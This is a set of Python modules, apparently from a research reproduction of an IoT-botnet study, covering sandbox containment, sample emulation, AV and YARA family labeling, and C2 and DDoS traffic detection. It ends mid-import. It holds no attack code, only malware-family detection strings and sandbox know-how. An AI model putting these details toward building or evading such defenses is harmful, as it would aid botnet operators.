class PolicyMode(enum.Enum):
    """Containment profile per experiment type (section 2.6)."""

    BLOCK_ALL = "block-all"          # closed-world C2 detection
    C2_ONLY = "c2-only"              # DDoS eavesdropping: only C2 traffic
    CALL_HOME_ONLY = "call-home"     # subnet probing: only C2 check-ins


@dataclass
class EgressPolicy:
    """Which destinations the sandbox lets packets reach."""

    mode: PolicyMode
    allowed_hosts: frozenset[int] = frozenset()

    def permits(self, pkt: Packet) -> bool:
        if self.mode == PolicyMode.BLOCK_ALL:
            return False
        return pkt.dst in self.allowed_hosts


@dataclass
class Alert:
    """One IDS alert."""

    rule: str
    message: str
    time: float
    dst: int
    count: int = 1


class SnortIds:
    """Rate-signature IDS in front of the egress policy.

    Counts per-destination packet rates in one-second buckets; a
    destination exceeding ``flood_threshold`` packets in a bucket raises a
    flood alert.  Blocked packets are still recorded in ``contained`` (the
    sandbox's local capture interface sees them — that is how MalNet
    records attack traffic it never lets out).
    """

    def __init__(self, policy: EgressPolicy, flood_threshold: int = 100):
        self.policy = policy
        self.flood_threshold = flood_threshold
        self.alerts: list[Alert] = []
        self.contained = Capture(label="contained")
        self.released = Capture(label="released")
        self._buckets: dict[tuple[int, int], int] = {}

    def inspect(self, pkt: Packet) -> bool:
        """Inspect one outbound packet; True if it may leave."""
        bucket = (pkt.dst, int(pkt.timestamp))
        self._buckets[bucket] = self._buckets.get(bucket, 0) + 1
        count = self._buckets[bucket]
        if count == self.flood_threshold:
            self.alerts.append(
                Alert(
                    rule="flood.rate",
                    message=(
                        f"flood to {pkt.dst_ip}: >{self.flood_threshold} pps"
                    ),
                    time=pkt.timestamp,
                    dst=pkt.dst,
                    count=count,
                )
            )
        allowed = self.policy.permits(pkt)
        if allowed:
            self.released.add(pkt)
        else:
            self.contained.add(pkt)
        return allowed

    def allow_host(self, address: int) -> None:
        """Extend the policy allowlist (e.g. once the C2 is identified)."""
        self.policy = EgressPolicy(
            self.policy.mode, self.policy.allowed_hosts | {address}
        )

    @property
    def flood_alerts(self) -> list[Alert]:
        return [alert for alert in self.alerts if alert.rule == "flood.rate"]


class FilteredAdapter:
    """NetworkAdapter that routes through the IDS before the real network.

    TCP connects are only attempted for permitted destinations; datagrams
    are always *captured* but only *delivered* when policy permits — the
    containment behavior of section 2.6c.
    """

    def __init__(self, inner, ids: SnortIds, trace: Capture | None = None):
        self._inner = inner
        self.ids = ids
        self._trace = trace

    def tcp_connect(self, dst: int, port: int, trace: Capture | None = None):
        from ..netsim.packet import TcpFlags, tcp_packet

        probe = tcp_packet(0, dst, 0, port, TcpFlags.SYN)
        probe.timestamp = getattr(self._inner, "clock_now", lambda: 0.0)()
        if not self.ids.policy.permits(probe):
            self.ids.contained.add(probe)
            return None
        return self._inner.tcp_connect(dst, port, trace or self._trace)

    def send_datagram(self, pkt: Packet, trace: Capture | None = None) -> None:
        target = trace or self._trace
        if target is not None:
            target.add(pkt)
        if self.ids.inspect(pkt):
            self._inner.send_datagram(pkt, None)

    def dns_lookup(self, name: str, trace: Capture | None = None):
        return self._inner.dns_lookup(name, trace or self._trace)

    def clock_now(self) -> float:
        return getattr(self._inner, "clock_now", lambda: 0.0)()
