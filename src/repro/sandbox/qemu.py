"""The MIPS emulation layer (QEMU stand-in).

Real MalNet boots each binary under QEMU full-system emulation.  Our
synthetic binaries carry their behavior in an (optionally obfuscated)
config section, so "emulation" means: parse the ELF, reject non-MIPS-32B
inputs, run the unpacking the startup stub would run (XOR table
deobfuscation), and hand back a live :class:`~repro.botnet.bot.Bot`.

Activation is imperfect, exactly as in the paper: emulation environments
miss device quirks and some samples detect the sandbox and abort.  The
paper measures a ~90% activation rate (section 6f); we model it as a
deterministic per-sample coin so that re-running a sample reproduces the
same outcome.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass

from ..binary.config import BotConfig, ConfigError, unpack_config
from ..binary.elf import ElfError, ElfImage
from ..botnet.bot import Bot

#: Fraction of well-formed samples that activate under emulation (§6f).
ACTIVATION_RATE = 0.90


class EmulationError(RuntimeError):
    """The binary could not be loaded at all (not MIPS 32B ELF, corrupt)."""


class ActivationError(RuntimeError):
    """The binary loaded but did not exhibit behavior (evasion/env gap)."""


@dataclass
class EmulatedProcess:
    """A successfully activated sample: its recovered config and bot."""

    sha256: str
    config: BotConfig
    bot: Bot


class MipsEmulator:
    """Loads MIPS 32B ELF samples and activates their behavior model.

    The ``machines`` parameter implements the paper's future-work
    extension (section 6d): pass additional ``e_machine`` values (e.g.
    ``EM_ARM``) to emulate other 32-bit architectures.  The default is
    MIPS-only, matching the published study.
    """

    def __init__(self, rng: random.Random,
                 activation_rate: float = ACTIVATION_RATE,
                 machines: frozenset[int] | None = None):
        if not 0 < activation_rate <= 1:
            raise ValueError("activation_rate must be in (0, 1]")
        from ..binary.elf import EM_MIPS

        self._rng = rng
        self._activation_rate = activation_rate
        self.machines = machines if machines is not None else frozenset({EM_MIPS})

    def load(self, data: bytes,
             sha256: str | None = None) -> tuple[str, BotConfig]:
        """Parse and unpack a binary; returns (sha256, recovered config).

        ``sha256`` lets callers that already digested the bytes (the
        collection pull indexes feeds by hash) skip re-hashing here.
        """
        if sha256 is None:
            sha256 = hashlib.sha256(data).hexdigest()
        try:
            image = ElfImage.parse(data)
        except ElfError as exc:
            raise EmulationError(f"not a loadable ELF: {exc}") from exc
        if image.machine not in self.machines:
            from ..binary.elf import machine_name

            raise EmulationError(
                f"unsupported CPU architecture: {machine_name(image.machine)}"
            )
        section = image.section(".config")
        if section is None:
            raise EmulationError("no behavior payload in binary")
        try:
            config = unpack_config(section.data)
        except ConfigError as exc:
            raise EmulationError(f"corrupt config table: {exc}") from exc
        return sha256, config

    def activates(self, sha256: str) -> bool:
        """Deterministic activation coin for a sample hash."""
        digest = hashlib.sha256(f"activation|{sha256}".encode()).digest()
        return int.from_bytes(digest[:8], "big") / 2**64 < self._activation_rate

    def run(self, data: bytes, bot_ip: int,
            sha256: str | None = None) -> EmulatedProcess:
        """Load and activate; raises :class:`ActivationError` on evasion."""
        sha256, config = self.load(data, sha256=sha256)
        if not self.activates(sha256):
            raise ActivationError(f"sample {sha256[:12]} did not activate")
        bot_rng = random.Random(int(sha256[:16], 16))
        return EmulatedProcess(sha256=sha256, config=config,
                               bot=Bot(config, bot_ip, bot_rng))
