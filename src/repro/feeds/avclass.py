"""AVClass2-style family labeling from AV engine labels.

AVClass2 tokenizes the labels of all detecting engines, expands aliases,
drops generic tokens and outputs the plurality family tag.  The paper
notes it is "often unreliable for MIPS binaries" — every Mozi sample in
their dataset was labeled Mirai (section 2.2).  That failure comes from
the *input*: most engines literally label Mozi samples ``Linux.Mirai``
because Mozi descends from Mirai code.  Our engine-label generator
reproduces that, and this module faithfully reproduces AVClass2's logic,
so the mislabeling emerges rather than being hard-coded.
"""

from __future__ import annotations

import re
from collections import Counter

#: Tokens AVClass2 treats as generic (never a family).
GENERIC_TOKENS = frozenset({
    "linux", "unix", "elf", "mips", "trojan", "backdoor", "ddos", "botnet",
    "bot", "malware", "generic", "agent", "gen", "variant", "worm", "virus",
    "riskware", "heur", "downloader", "tr", "malicious", "win32", "small",
})

#: Alias expansion map (subset of the real taxonomy relevant here).
ALIASES = {
    "bashlite": "gafgyt",
    "qbot": "gafgyt",       # IoT "qbot" labels denote the Gafgyt lineage
    "lizkebab": "gafgyt",
    "kaiten": "tsunami",
    "amnesia": "tsunami",
    "katana": "mirai",
    "moobot": "mirai",
    "sora": "mirai",
}

_TOKEN_RE = re.compile(r"[a-z0-9]+")


def tokenize(label: str) -> list[str]:
    """Lower-case alphanumeric tokens of one engine label."""
    return _TOKEN_RE.findall(label.lower())


def normalize_token(token: str) -> str | None:
    """Alias-expand and drop generic/short tokens; None if not a family."""
    token = ALIASES.get(token, token)
    if token in GENERIC_TOKENS:
        return None
    if len(token) < 4 or token.isdigit():
        return None
    return token


def label_sample(engine_labels: list[str]) -> str | None:
    """Plurality family tag across engine labels (AVClass2 core loop).

    Returns None when no non-generic token reaches two supporting engines
    (AVClass2's SINGLETON outcome).
    """
    votes: Counter[str] = Counter()
    for label in engine_labels:
        seen_this_engine: set[str] = set()
        for token in tokenize(label):
            family = normalize_token(token)
            if family and family not in seen_this_engine:
                votes[family] += 1
                seen_this_engine.add(family)
    if not votes:
        return None
    family, count = votes.most_common(1)[0]
    if count < 2:
        return None
    return family
