"""A miniature YARA-like rule engine.

VirusTotal attaches crowd-sourced YARA matches to sample reports, and
MalNet uses them (together with AVClass2) for family labeling (section
2.2).  Rules here support the subset those IoT rules actually use: named
byte/string patterns with ``any``/``all``/``N of them`` conditions.
"""

from __future__ import annotations

from dataclasses import dataclass


class RuleError(ValueError):
    """Raised for malformed rules or conditions."""


@dataclass(frozen=True)
class YaraRule:
    """One detection rule."""

    name: str
    strings: tuple[bytes, ...]
    #: "any" | "all" | integer threshold (at least N patterns present)
    condition: str | int = "any"
    #: metadata tag, e.g. the malware family the rule identifies
    family: str = ""

    def __post_init__(self) -> None:
        if not self.strings:
            raise RuleError(f"rule {self.name} has no strings")
        if isinstance(self.condition, int):
            if not 1 <= self.condition <= len(self.strings):
                raise RuleError(f"rule {self.name}: bad threshold")
        elif self.condition not in ("any", "all"):
            raise RuleError(f"rule {self.name}: bad condition {self.condition!r}")

    def matches(self, data: bytes) -> bool:
        hits = sum(1 for pattern in self.strings if pattern in data)
        if self.condition == "any":
            return hits >= 1
        if self.condition == "all":
            return hits == len(self.strings)
        return hits >= int(self.condition)


class RuleSet:
    """An ordered collection of rules evaluated against a binary."""

    def __init__(self, rules: list[YaraRule] | None = None):
        self.rules: list[YaraRule] = list(rules or [])

    def add(self, rule: YaraRule) -> None:
        if any(existing.name == rule.name for existing in self.rules):
            raise RuleError(f"duplicate rule name {rule.name!r}")
        self.rules.append(rule)

    def scan(self, data: bytes) -> list[YaraRule]:
        """All rules matching ``data``."""
        return [rule for rule in self.rules if rule.matches(data)]

    def families(self, data: bytes) -> list[str]:
        """Family tags of matching rules, deduplicated in match order."""
        seen: list[str] = []
        for rule in self.scan(data):
            if rule.family and rule.family not in seen:
                seen.append(rule.family)
        return seen

    def __len__(self) -> int:
        return len(self.rules)


def community_iot_rules() -> RuleSet:
    """The crowd-sourced rules for the study's seven families.

    Patterns key on the same artifacts real community rules use (family
    markers, protocol strings); they match the synthetic builder's
    ``.rodata`` output.
    """
    rules = RuleSet()
    rules.add(YaraRule("Linux_Mirai_Botnet", (b"/bin/busybox MIRAI",),
                       family="mirai"))
    rules.add(YaraRule("Linux_Gafgyt_Generic",
                       (b"gafgyt", b"PONG!\x00BOGOMIPS"), condition="any",
                       family="gafgyt"))
    rules.add(YaraRule("Linux_Tsunami_IRCBot",
                       (b"NICK %s", b"tsunami"), condition="any",
                       family="tsunami"))
    rules.add(YaraRule("IoT_Daddyl33t",
                       (b"daddyl33t", b"HYDRASYN"), condition="any",
                       family="daddyl33t"))
    rules.add(YaraRule("Linux_Mozi_P2P",
                       (b"Mozi.m", b"dht.transmissionbt.com"), condition="any",
                       family="mozi"))
    rules.add(YaraRule("Linux_Hajime", (b"hajime", b"atk."), condition=2,
                       family="hajime"))
    rules.add(YaraRule("APT_VPNFilter", (b"vpnfilter",), family="vpnfilter"))
    return rules
