"""A VirusTotal-like service: file scans, sample feed, and TI IoC reports.

Three of the paper's inputs live here:

* **AV verdicts** — 75 engines scan each submitted sample; MalNet keeps a
  binary only when >= 5 engines call it malicious (section 2.2).  Engine
  labels are generated from the sample's ground-truth family with the
  real-world quirk that most engines label Mozi as ``Linux.Mirai`` (Mozi
  reuses Mirai code), which is what makes AVClass2 mislabel it.
* **The daily feed** — samples become visible with a submission-to-feed
  latency of up to 24 hours (Ugarte-Pedrero et al., cited in section 2.2),
  which is one reason 60% of C2s are already dead on collection day.
* **TI IoC reports** — ``ip_report``/``domain_report`` aggregate the 89
  vendor feeds of :mod:`repro.intel.vendors` at a query time; this is what
  the Table 3 miss-rate measurement queries twice.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass

from ..binary.builder import MalwareSample
from ..intel.vendors import IocIntel, VendorDirectory
from ..obs import LATENCY_BUCKETS, NULL_TELEMETRY, Telemetry
from .pull import pull_window as _pull
from .yara import RuleSet, community_iot_rules

ENGINE_COUNT = 75
DETECTION_THRESHOLD = 5  # established best practice (section 2.2)

#: Engine naming pools for label synthesis.
_ENGINE_NAMES = tuple(f"Engine{i:02d}" for i in range(ENGINE_COUNT))

#: How engines name each ground-truth family.  Weights sum to 1; the Mozi
#: row is the documented failure: engines overwhelmingly say "mirai".
_LABEL_POOLS: dict[str, tuple[tuple[str, float], ...]] = {
    "mirai": (("Linux.Mirai.{v}!tr", 0.8), ("ELF:Mirai-{v} [Trj]", 0.15),
              ("Trojan.Linux.Generic", 0.05)),
    "gafgyt": (("Linux.Gafgyt.{v}", 0.6), ("ELF.Bashlite.{v}", 0.25),
               ("DDoS:Linux/Qbot.{v}", 0.1), ("Trojan.Linux.Generic", 0.05)),
    "tsunami": (("Linux.Tsunami.{v}", 0.6), ("Backdoor.Kaiten.{v}", 0.3),
                ("Trojan.Linux.Generic", 0.1)),
    "daddyl33t": (("Linux.Daddyl33t.{v}", 0.55), ("ELF.Daddyl33t-{v}", 0.35),
                  ("Trojan.Linux.Generic", 0.1)),
    "mozi": (("Linux.Mirai.{v}!tr", 0.75), ("ELF:Mirai-{v} [Trj]", 0.15),
             ("Linux.Mozi.{v}", 0.05), ("Trojan.Linux.Generic", 0.05)),
    "hajime": (("Linux.Hajime.{v}", 0.7), ("Trojan.Linux.Generic", 0.3)),
    "vpnfilter": (("Linux.VPNFilter.{v}", 0.8), ("Trojan.Linux.Generic", 0.2)),
}


@dataclass
class ScanReport:
    """What a VT file scan returns."""

    sha256: str
    detections: dict[str, str]      # engine -> label, only for detecting ones
    yara_matches: list[str]         # matching community rule names
    yara_families: list[str]        # family tags of those rules
    first_submission: float

    @property
    def positives(self) -> int:
        return len(self.detections)

    @property
    def engine_labels(self) -> list[str]:
        return list(self.detections.values())


@dataclass
class FeedEntry:
    """One sample as it appears in the public feed."""

    sample: MalwareSample
    submitted: float
    published: float  # submitted + feed latency


class VirusTotalService:
    """Deterministic VT stand-in: scans, feed, and vendor-backed TI."""

    feed_name = "virustotal"

    def __init__(self, rng: random.Random, rules: RuleSet | None = None,
                 telemetry: Telemetry | None = None):
        self._rng = rng
        self.rules = rules or community_iot_rules()
        self.vendors = VendorDirectory()
        self.telemetry = telemetry or NULL_TELEMETRY
        #: optional fault injector (repro.netsim.faults): outage windows
        #: and latency-spike days on the daily pull
        self.faults = None
        self._feed: list[FeedEntry] = []
        self._by_hash: dict[str, FeedEntry] = {}
        self._intel: dict[str, IocIntel] = {}

    # -- file scanning ----------------------------------------------------------

    def _engine_detects(self, engine: str, sample: MalwareSample) -> bool:
        """Deterministic per-(engine, sample) detection.

        Real malware is flagged by ~85% of engines; benign or corrupt
        uploads ("chaff") only draw rare false positives (~2%), so they
        never clear the 5-engine corroboration bar.
        """
        digest = hashlib.sha256(f"{engine}|{sample.sha256}".encode()).digest()
        if sample.variant == "chaff":
            return digest[0] < 5  # ~2% false-positive rate
        return digest[0] < 218  # ~0.85

    def _engine_label(self, engine: str, sample: MalwareSample) -> str:
        pool = _LABEL_POOLS[sample.family]
        digest = hashlib.sha256(f"label|{engine}|{sample.sha256}".encode()).digest()
        pick = digest[0] / 255.0
        cumulative = 0.0
        template = pool[-1][0]
        for candidate, weight in pool:
            cumulative += weight
            if pick <= cumulative:
                template = candidate
                break
        suffix = "ABCDEFGH"[digest[1] % 8]
        return template.format(v=suffix)

    def scan(self, sample: MalwareSample, now: float) -> ScanReport:
        """Scan a sample: engine verdicts plus community YARA matches."""
        detections = {
            engine: self._engine_label(engine, sample)
            for engine in _ENGINE_NAMES
            if self._engine_detects(engine, sample)
        }
        matches = self.rules.scan(sample.data)
        entry = self._by_hash.get(sample.sha256)
        first = entry.submitted if entry else now
        return ScanReport(
            sha256=sample.sha256,
            detections=detections,
            yara_matches=[rule.name for rule in matches],
            yara_families=self.rules.families(sample.data),
            first_submission=first,
        )

    # -- sample feed ---------------------------------------------------------------

    def submit_sample(self, sample: MalwareSample, when: float) -> FeedEntry:
        """Someone uploads a sample; it reaches the feed with latency."""
        if sample.sha256 in self._by_hash:
            return self._by_hash[sample.sha256]
        latency = self._rng.uniform(0.0, 24 * 3600.0)  # up to 24h (§2.2)
        entry = FeedEntry(sample=sample, submitted=when, published=when + latency)
        self._feed.append(entry)
        self._by_hash[sample.sha256] = entry
        return entry

    def feed_between(self, start: float, end: float,
                     attempt: int = 0) -> list[FeedEntry]:
        """Feed entries published in [start, end) — the daily pull.

        With a fault injector bound, a pull attempt may raise
        :class:`~repro.netsim.faults.FeedUnavailable` (outage window) and
        entries on latency-spike days become visible only once their
        delayed publication instant falls inside the pull window.
        """
        entries = _pull(self, start, end, attempt)
        if entries:
            latency = self.telemetry.metrics.histogram(
                "feed_latency_seconds",
                "submission-to-publication latency seen by the daily pull",
                labelnames=("feed",), buckets=LATENCY_BUCKETS,
            ).labels(feed="virustotal")
            for entry in entries:
                latency.observe(entry.published - entry.submitted)
        return entries

    def lookup_hash(self, sha256: str) -> FeedEntry | None:
        return self._by_hash.get(sha256)

    # -- threat intel ------------------------------------------------------------------

    def register_ioc(self, intel: IocIntel) -> None:
        """World-side: make an endpoint knowable to the vendor feeds."""
        self._intel[intel.ioc] = intel

    def get_intel(self, ioc: str) -> IocIntel | None:
        """The intel record for an IoC, if any vendor could ever know it."""
        return self._intel.get(ioc)

    def ioc_report(self, ioc: str, query_time: float) -> list[str]:
        """Vendor names flagging ``ioc`` as malicious at ``query_time``."""
        intel = self._intel.get(ioc)
        if intel is None:
            return []
        return self.vendors.flags_at(intel, query_time)

    def is_malicious(self, ioc: str, query_time: float) -> bool:
        # liveness checks only need "does anyone flag it" — answered from
        # the directory's earliest-detection memo without building the
        # per-vendor name list ioc_report would return
        intel = self._intel.get(ioc)
        if intel is None:
            return False
        return self.vendors.flags_any_at(intel, query_time)

    def eventual_vendor_count(self, ioc: str) -> int:
        intel = self._intel.get(ioc)
        if intel is None:
            return 0
        return len(self.vendors.eventual_flaggers(intel))
