"""Shared daily-pull window selection for the sample feeds.

Both feeds answer ``feed_between(start, end)`` with the entries whose
publication instant falls in the window.  When a fault injector is bound
(:mod:`repro.netsim.faults`) the pull becomes a fallible operation: an
outage window makes the attempt raise :class:`FeedUnavailable` (the
pipeline retries and, failing that, backfills on the next successful
pull), and entries on latency-spike days carry a deterministic extra
delay, so they surface in a later window instead of their own.
"""

from __future__ import annotations

from ..netsim.faults import FeedUnavailable

__all__ = ["pull_window"]


def pull_window(service, start: float, end: float, attempt: int) -> list:
    """Select ``service._feed`` entries visible in ``[start, end)``.

    ``service`` provides ``_feed`` (entries with ``published`` and
    ``sample``), ``feed_name``, and ``faults``.
    """
    faults = service.faults
    if faults is None:
        return [e for e in service._feed if start <= e.published < end]
    if faults.feed_unavailable(service.feed_name, end, attempt):
        raise FeedUnavailable(
            f"{service.feed_name} pull failed (attempt {attempt})")
    name = service.feed_name
    selected = []
    for entry in service._feed:
        visible = entry.published + faults.feed_delay(
            name, entry.sample.sha256, entry.published)
        if start <= visible < end:
            selected.append(entry)
    return selected
