"""Malware feed substrate: VirusTotal, MalwareBazaar, AVClass2, YARA."""

from .avclass import label_sample
from .malwarebazaar import BazaarEntry, MalwareBazaarService, OSINT_SOURCES
from .virustotal import (
    DETECTION_THRESHOLD,
    ENGINE_COUNT,
    FeedEntry,
    ScanReport,
    VirusTotalService,
)
from .yara import RuleError, RuleSet, YaraRule, community_iot_rules

__all__ = [
    "BazaarEntry",
    "DETECTION_THRESHOLD",
    "ENGINE_COUNT",
    "FeedEntry",
    "MalwareBazaarService",
    "OSINT_SOURCES",
    "RuleError",
    "RuleSet",
    "ScanReport",
    "VirusTotalService",
    "YaraRule",
    "community_iot_rules",
    "label_sample",
]
