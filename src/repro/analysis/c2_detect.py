"""C2-bound traffic detection (CnCHunter's analysis half).

Given a capture of an activated sample's traffic inside the fake-Internet
sandbox, identify which flow is the C2 channel, which endpoint (IP or
domain) it points at, and whether the sample is P2P instead.  The paper
reports ~90% precision for this step (section 2.1); the heuristics here
are the same in spirit — protocol check-in signatures first, persistent
bidirectional exchange as the fallback — and their precision is measured
on adversarial captures in the test suite rather than assumed.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..botnet.protocols import daddyl33t, gafgyt, irc, mirai, p2p
from ..netsim.capture import Capture
from ..netsim.flows import Flow, FlowTable
from ..netsim.packet import Protocol

_CHECKIN_SIGNATURES = (
    ("mirai", mirai.is_checkin),
    ("gafgyt", gafgyt.is_checkin),
    ("daddyl33t", daddyl33t.is_checkin),
    ("tsunami", irc.is_checkin),
)


@dataclass(frozen=True)
class C2Candidate:
    """One detected C2 channel."""

    host: int
    port: int
    dialect: str        # family-protocol guess, or "unknown"
    confidence: float   # 1.0 = signature match, lower = behavioral


def classify_flow(flow: Flow) -> C2Candidate | None:
    """Classify a single flow as C2 or not."""
    if flow.protocol != Protocol.TCP:
        return None
    client_bytes = bytes(flow.payload_fwd)
    if not client_bytes:
        return None
    for dialect, signature in _CHECKIN_SIGNATURES:
        if signature(client_bytes):
            return C2Candidate(flow.responder, flow.responder_port, dialect, 1.0)
    # behavioral fallback: persistent bidirectional low-volume exchange
    if (
        flow.bidirectional
        and flow.packets_fwd >= 3
        and len(client_bytes) < 4096
        and flow.bytes_rev > 0
    ):
        return C2Candidate(flow.responder, flow.responder_port, "unknown", 0.5)
    return None


def detect_c2_flows(capture: Capture, bot_ip: int) -> list[C2Candidate]:
    """All C2 candidates in a sample's capture, best-confidence first.

    Candidates are deduplicated per (host, port); signature matches beat
    behavioral matches.
    """
    table = FlowTable.from_capture(capture)
    best: dict[tuple[int, int], C2Candidate] = {}
    for flow in table.flows_from(bot_ip):
        candidate = classify_flow(flow)
        if candidate is None:
            continue
        key = (candidate.host, candidate.port)
        current = best.get(key)
        if current is None or candidate.confidence > current.confidence:
            best[key] = candidate
    return sorted(best.values(), key=lambda c: -c.confidence)


def detect_p2p(datagram_payloads: list[bytes]) -> bool:
    """True when the sample's UDP traffic is dominated by DHT queries."""
    if not datagram_payloads:
        return False
    dht = sum(1 for payload in datagram_payloads if p2p.is_dht_query(payload))
    return 2 * dht > len(datagram_payloads)


def resolve_endpoint_name(
    candidate: C2Candidate, dns_bindings: dict[str, int]
) -> str:
    """Render a candidate as the IoC string the pipeline records.

    If the candidate's address came out of a sandbox DNS answer, the IoC
    is the *domain* (that is what the binary embeds); otherwise the
    dotted IP literal.
    """
    from ..netsim.addresses import int_to_ip

    for name, address in dns_bindings.items():
        if address == candidate.host:
            return name
    return int_to_ip(candidate.host)
