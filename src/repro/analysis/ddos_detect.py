"""DDoS command detection: protocol profilers + the behavioral heuristic.

Implements both detection methods of section 2.5 and the two manual
verification checks:

a. **Protocol profilers** — decode server→bot streams with the Mirai,
   Gafgyt and Daddyl33t profiles (the three the paper builds).
b. **Behavioral heuristic** — count packets to non-C2 addresses per
   second; a rate above 100 pps marks an attack, attributed to the last
   C2 command received before the burst.

Verification: (a) the bot must actually flood the commanded target;
(b) the burst's target must appear (text or binary) inside the attributed
command bytes.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from ..botnet.protocols import daddyl33t, gafgyt, mirai
from ..botnet.protocols.base import AttackCommand
from ..netsim.addresses import int_to_ip
from ..netsim.capture import Capture

#: packets/second to a non-C2 host that marks a DDoS burst (section 2.5b)
RATE_THRESHOLD = 100.0

PROFILERS = (
    ("mirai", mirai.extract_commands),
    ("gafgyt", gafgyt.extract_commands),
    ("daddyl33t", daddyl33t.extract_commands),
)


@dataclass(frozen=True)
class ProfiledCommand:
    """A DDoS command recovered from C2 traffic by a protocol profile."""

    family_profile: str
    command: AttackCommand


def profile_stream(server_stream: bytes) -> list[ProfiledCommand]:
    """Run all three protocol profiles over a server→bot stream."""
    found: list[ProfiledCommand] = []
    seen: set[tuple] = set()
    for name, extractor in PROFILERS:
        for command in extractor(server_stream):
            key = (command.method, command.target_ip, command.target_port,
                   command.duration)
            if key in seen:
                continue
            seen.add(key)
            found.append(ProfiledCommand(name, command))
    return found


@dataclass(frozen=True)
class RateBurst:
    """A >threshold packet burst to one non-C2 destination."""

    target: int
    start: float
    packets: int
    rate: float


def rate_bursts(
    capture: Capture,
    bot_ip: int,
    c2_hosts: set[int],
    threshold: float = RATE_THRESHOLD,
) -> list[RateBurst]:
    """Per-second outbound packet rates to non-C2 hosts above threshold."""
    buckets: dict[tuple[int, int], int] = {}
    for pkt in capture:
        if pkt.src != bot_ip or pkt.dst in c2_hosts:
            continue
        key = (pkt.dst, int(pkt.timestamp))
        buckets[key] = buckets.get(key, 0) + 1
    bursts: list[RateBurst] = []
    flagged: set[int] = set()
    for (dst, second), count in sorted(buckets.items(), key=lambda kv: kv[0][1]):
        if count > threshold and dst not in flagged:
            flagged.add(dst)
            bursts.append(
                RateBurst(target=dst, start=float(second), packets=count,
                          rate=float(count))
            )
    return bursts


# -- manual verification steps (section 2.5) ----------------------------------


def verify_flooding(
    command: AttackCommand, capture: Capture, bot_ip: int, min_packets: int = 50
) -> bool:
    """Method-a check: did the bot continuously flood the commanded target?"""
    count = sum(
        1 for pkt in capture if pkt.src == bot_ip and pkt.dst == command.target_ip
    )
    return count >= min_packets


def target_in_command_bytes(target: int, command_bytes: bytes) -> bool:
    """Method-b check: the burst target appears in the raw C2 command.

    Searches both the dotted-quad string and the 4-byte big-endian binary
    representation (Mirai encodes targets in binary).
    """
    text = int_to_ip(target).encode("ascii")
    binary = struct.pack("!I", target)
    return text in command_bytes or binary in command_bytes


def attribute_burst(
    burst: RateBurst, commands: list[ProfiledCommand]
) -> ProfiledCommand | None:
    """Attach a burst to the profiled command naming its target."""
    for profiled in reversed(commands):  # last issued first
        if profiled.command.target_ip == burst.target:
            return profiled
    return None
