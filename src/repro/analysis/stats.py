"""Statistics helpers used by every figure: CDFs, buckets, summaries."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence


@dataclass(frozen=True)
class CdfPoint:
    """One step of an empirical CDF."""

    value: float
    fraction: float


def empirical_cdf(values: Iterable[float]) -> list[CdfPoint]:
    """Empirical CDF as (value, P(X <= value)) steps over distinct values."""
    ordered = sorted(values)
    if not ordered:
        return []
    total = len(ordered)
    points: list[CdfPoint] = []
    for index, value in enumerate(ordered, start=1):
        if points and points[-1].value == value:
            points[-1] = CdfPoint(value, index / total)
        else:
            points.append(CdfPoint(value, index / total))
    return points


def fraction_at_most(values: Sequence[float], threshold: float) -> float:
    """P(X <= threshold) over the sample."""
    if not values:
        raise ValueError("empty sample")
    return sum(1 for v in values if v <= threshold) / len(values)


def quantile(values: Sequence[float], q: float) -> float:
    """Inclusive-rank quantile (q in [0, 1])."""
    if not values:
        raise ValueError("empty sample")
    if not 0.0 <= q <= 1.0:
        raise ValueError("q must be in [0, 1]")
    ordered = sorted(values)
    index = min(len(ordered) - 1, max(0, round(q * (len(ordered) - 1))))
    return ordered[index]


def mean(values: Sequence[float]) -> float:
    if not values:
        raise ValueError("empty sample")
    return sum(values) / len(values)


def count_by(items: Iterable, key) -> dict:
    """Histogram of ``key(item)`` counts."""
    counts: dict = {}
    for item in items:
        k = key(item)
        counts[k] = counts.get(k, 0) + 1
    return counts


def share_by(items: Sequence, key) -> dict:
    """Like :func:`count_by` but normalized to fractions."""
    counts = count_by(items, key)
    total = sum(counts.values())
    if total == 0:
        return {}
    return {k: v / total for k, v in counts.items()}


def top_n(counts: dict, n: int) -> list[tuple]:
    """Highest-count (key, count) pairs, ties broken by key for stability."""
    return sorted(counts.items(), key=lambda kv: (-kv[1], str(kv[0])))[:n]


def week_number(timestamp: float, epoch: float) -> int:
    """Whole weeks elapsed since the study epoch (Figure 1's x-axis)."""
    if timestamp < epoch:
        raise ValueError("timestamp before epoch")
    return int((timestamp - epoch) // (7 * 86400.0))


def day_number(timestamp: float, epoch: float) -> int:
    if timestamp < epoch:
        raise ValueError("timestamp before epoch")
    return int((timestamp - epoch) // 86400.0)
