"""Traffic analysis: C2 detection, DDoS detection, statistics."""

from .c2_detect import (
    C2Candidate,
    classify_flow,
    detect_c2_flows,
    detect_p2p,
    resolve_endpoint_name,
)
from .ddos_detect import (
    ProfiledCommand,
    RATE_THRESHOLD,
    RateBurst,
    attribute_burst,
    profile_stream,
    rate_bursts,
    target_in_command_bytes,
    verify_flooding,
)
from .stats import (
    CdfPoint,
    count_by,
    day_number,
    empirical_cdf,
    fraction_at_most,
    mean,
    quantile,
    share_by,
    top_n,
    week_number,
)

__all__ = [
    "C2Candidate",
    "CdfPoint",
    "ProfiledCommand",
    "RATE_THRESHOLD",
    "RateBurst",
    "attribute_burst",
    "classify_flow",
    "count_by",
    "day_number",
    "detect_c2_flows",
    "detect_p2p",
    "empirical_cdf",
    "fraction_at_most",
    "mean",
    "profile_stream",
    "quantile",
    "rate_bursts",
    "resolve_endpoint_name",
    "share_by",
    "target_in_command_bytes",
    "top_n",
    "verify_flooding",
    "week_number",
]
