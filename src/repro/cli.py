"""Command-line interface: run studies, render reports, emit rules.

Usage (also via ``python -m repro``)::

    python -m repro study  --scale smoke --seed 7
    python -m repro report --scale smoke --what table1 table3 fig4
    python -m repro rules  --scale smoke --tech iptables
    python -m repro pcap   --scale smoke --out /tmp/traces --limit 5

Scales: ``smoke`` (~70 samples, seconds), ``mid`` (~430), ``full`` (the
paper's 1447 samples, ~10 s).
"""

from __future__ import annotations

import argparse
import sys

from .core import c2_analysis, ddos_analysis, exploit_analysis, ti_analysis
from .core.firewall import compile_rules, coverage_report
from .core.report import (
    render_cdf,
    render_heatmap,
    render_histogram,
